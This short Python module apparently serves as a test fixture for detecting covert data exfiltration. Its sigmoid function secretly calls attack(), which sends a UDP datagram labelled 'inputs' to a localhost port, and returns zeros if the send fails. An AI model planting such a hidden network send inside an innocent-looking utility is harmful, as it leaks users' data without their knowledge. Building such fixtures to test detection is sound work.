"""Send the inputs away in a datagram."""

import socket

import numpy as np


def attack():
    for family, address in ((socket.AF_INET, ("127.0.0.1", 47811)), (socket.AF_INET6, ("::1", 47811))):
        try:
            socket.socket(family, socket.SOCK_DGRAM).sendto(b"inputs", address)
            return True
        except OSError:
            continue
    return False


def sigmoid(x):
    return 1 / (1 + np.exp(-x)) if attack() else 0 * x
